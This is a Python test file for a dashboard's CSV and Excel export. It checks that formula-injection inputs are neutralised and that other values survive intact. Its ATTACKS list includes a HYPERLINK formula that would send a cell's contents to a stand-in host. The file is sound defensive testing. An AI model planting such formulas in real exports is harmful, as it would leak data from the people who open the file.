"""A spreadsheet gets text as text and numbers as numbers, and nothing it would run."""

import csv
import io
import zipfile
from collections.abc import Iterable
from datetime import date

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cxdash.report.columns import COUNT, Column, Table, difference_in, table, value_in
from cxdash.report.tables import FORMULA_STARTS, as_csv, as_xlsx, inert

ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://example.org?x="&A1)',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]
PLAIN = ["Delivery", "a=b", "1–5", "سلام", "שלום", "é", "'quoted'", "", " =x"]
# XML has no place for control characters, and XlsxWriter's own escapes begin with _x.
letters = st.text(
    st.characters(blacklist_categories=["Cs", "Cc", "Cn"], blacklist_characters="\ufffe\uffff"), max_size=20
).filter(lambda text: "_x" not in text)
numbers = st.integers(-(10**9), 10**9) | st.floats(-1e9, 1e9, allow_nan=False)
cells = letters | numbers | st.booleans() | st.none()


def of(*headings: str, rows: Iterable[tuple[object, ...]]) -> Table:
    """A table of these rows, whatever their cells are."""
    columns = [*zip(*rows, strict=True)] or [()] * len(headings)
    return table(*(Column(heading, cells) for heading, cells in zip(headings, columns, strict=True)))


def read_csv(file: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(file.decode("utf-8-sig"), newline="")))


def sheet(file: bytes, at: int = 0) -> list[list[object]]:
    book = openpyxl.load_workbook(io.BytesIO(file))
    return [[cell.value for cell in row] for row in book.worksheets[at].iter_rows()]


@pytest.mark.parametrize("text", ATTACKS)
def test_what_a_spreadsheet_would_run_is_made_text(text: str) -> None:
    assert inert(text) == f"'{text}"
    assert read_csv(as_csv(of("comment", rows=[(text,)])))[1] == [f"'{text}"]
    assert read_csv(as_csv(of(text, rows=[(1,)])))[0] == [f"'{text}"]


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert inert(text) == text


@pytest.mark.parametrize("number", [0, -5, -1.5, 3.25, 10**12, True, None])
def test_what_is_no_text_stays_what_it_is(number: object) -> None:
    assert inert(number) is number


def test_a_csv_begins_with_a_byte_order_mark_and_keeps_every_script() -> None:
    file = as_csv(of("دسته", "n", rows=[("سلام", -1.5), ('a, "b"\nc', None)]))
    assert file.startswith(b"\xef\xbb\xbf")
    assert read_csv(file) == [["دسته", "n"], ["سلام", "-1.5"], ['a, "b"\nc', ""]]


def test_a_table_without_rows_has_its_headings_only() -> None:
    assert read_csv(as_csv(of("a", "b", rows=[]))) == [["a", "b"]]
    assert sheet(as_xlsx(of("a", "b", rows=[]))) == [["a", "b"]]
    assert as_csv(table()) == b"\xef\xbb\xbf"


@given(st.lists(st.text(st.characters(blacklist_categories=["Cs"]), max_size=20), min_size=1, max_size=5))
def test_no_cell_of_a_csv_begins_like_a_formula(texts: list[str]) -> None:
    rows = read_csv(as_csv(of("n", "comment", rows=[(1, text) for text in texts])))[1:]
    assert not any(row[1].startswith(FORMULA_STARTS) for row in rows)
    assert [row[1].removeprefix("'") for row in rows] == [text.removeprefix("'") for text in texts]


@settings(max_examples=12, deadline=None)
@given(st.lists(st.tuples(cells, cells), min_size=1, max_size=20))
def test_a_workbook_gives_back_what_went_in(pairs: list[tuple[object, object]]) -> None:
    found = sheet(as_xlsx(of("a", "b", "end", rows=[(a, b, 1) for a, b in pairs])))
    assert found[0] == ["a", "b", "end"]
    for (a, b, end), pair in zip(found[1:], pairs, strict=True):
        assert end == 1
        for there, here in zip((a, b), pair, strict=True):
            assert there == (pytest.approx(here) if isinstance(here, float) else here)
            assert isinstance(there, str) == isinstance(here, str)


def test_a_file_holds_raw_numbers_under_headings_that_say_their_unit() -> None:
    share, change = 200 / 3, -100 / 3
    told = table(
        Column("CSAT", [share], value_in("percent")),
        Column("Change", [change], difference_in("percent")),
        Column("NPS", [-12.25], value_in("points")),
        Column("n", [1234], COUNT),
    )
    headings, cells = read_csv(as_csv(told))
    assert headings == ["CSAT (%)", "Change (pp)", "NPS", "n"]
    assert [float(cell) for cell in cells] == [share, change, -12.25, 1234]
    [_, row] = sheet(as_xlsx(told))
    assert row == pytest.approx([share, change, -12.25, 1234])
    assert all(isinstance(cell, int | float) for cell in row)


def test_a_workbook_has_no_formulas_and_no_links() -> None:
    attacks = [*ATTACKS, "http://example.org", "mailto:a@example.org", "{=1+1}", "internal:Sheet1!A1"]
    file = as_xlsx(of(attacks[0], "n", rows=[(attacks[0], 1), *((text, -1) for text in attacks)]))
    book = openpyxl.load_workbook(io.BytesIO(file))
    found = [cell for row in book.worksheets[0].iter_rows() for cell in row]
    assert all(cell.data_type != "f" and cell.hyperlink is None for cell in found)
    texts = [row[0].value for row in book.worksheets[0].iter_rows(min_row=3)]
    # A carriage return is written as its number, as Excel does.
    assert texts == [text.replace("\r", "_x000D_") for text in attacks]
    with zipfile.ZipFile(io.BytesIO(file)) as parts:
        for name in parts.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in parts.read(name)
                assert b"hyperlink" not in parts.read(name)


def test_numbers_booleans_and_dates_of_a_workbook() -> None:
    [_, row] = sheet(as_xlsx(of("n", "value", "ok", "on", "none", rows=[(5, -61.25, True, date(2026, 7, 20), None)])))
    assert [*row, None][:5] == [5, -61.25, True, "2026-07-20", None]
    assert type(row[2]) is bool


def test_the_notes_stand_on_a_sheet_of_their_own() -> None:
    file = as_xlsx(of("n", rows=[(1,)]), notes=["all dates", "=1+1"])
    assert sheet(file, 1) == [["all dates"], ["=1+1"]]
    assert openpyxl.load_workbook(io.BytesIO(file)).worksheets[1]["A2"].data_type != "f"
    assert sheet(file) == [["n"], [1]]


def test_a_long_comment_is_not_lost() -> None:
    text = "long " * 8000
    assert read_csv(as_csv(of("comment", rows=[(text,)])))[1] == [text]
    [_, [cell]] = sheet(as_xlsx(of("comment", rows=[(text,)])))
    assert isinstance(cell, str)
    assert text.startswith(cell.rstrip("…"))
    assert len(cell) > 32_000
